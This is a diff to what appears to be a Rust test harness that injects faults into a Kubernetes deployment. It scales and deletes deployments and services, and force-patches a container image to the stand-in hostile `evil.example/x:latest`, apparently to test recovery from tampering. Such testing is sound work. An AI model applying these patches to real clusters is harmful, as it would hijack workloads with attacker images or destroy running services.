@@ -196,24 +196,26 @@ async fn act(stack: &mut Stack, model: &Model, op: &Op, new_attempt: bool) -> an
                 tokio::time::sleep(Duration::from_millis(100)).await;
             }
         }
-        Op::Scale { replicas } => {
+        Op::Scale { of, replicas } => {
+            let (deployment, _) = of.names(RELEASE);
             deployments
                 .patch(
-                    &workload,
+                    &deployment,
                     &PatchParams::default(),
                     &Patch::Merge(json!({ "spec": { "replicas": replicas } })),
                 )
                 .await?;
         }
-        Op::SetImage => {
+        Op::SetImage { of } => {
+            let (deployment, container) = of.names(RELEASE);
             deployments
                 .patch(
-                    &workload,
+                    &deployment,
                     &PatchParams::apply("kubectl-set-image").force(),
                     &Patch::Apply(json!({
                         "apiVersion": "apps/v1", "kind": "Deployment",
                         "spec": { "template": { "spec": { "containers": [
-                            { "name": "api", "image": "evil.example/x:latest" }
+                            { "name": container, "image": "evil.example/x:latest" }
                         ] } } }
                     })),
                 )
@@ -222,9 +224,10 @@ async fn act(stack: &mut Stack, model: &Model, op: &Op, new_attempt: bool) -> an
         Op::DeleteService => {
             services.delete(&workload, &DeleteParams::default()).await?;
         }
-        Op::DeleteDeployment => {
+        Op::DeleteDeployment { of } => {
+            let (deployment, _) = of.names(RELEASE);
             deployments
-                .delete(&workload, &DeleteParams::background())
+                .delete(&deployment, &DeleteParams::background())
                 .await?;
         }
         Op::PauseThenResume { paused_ms, .. } => {
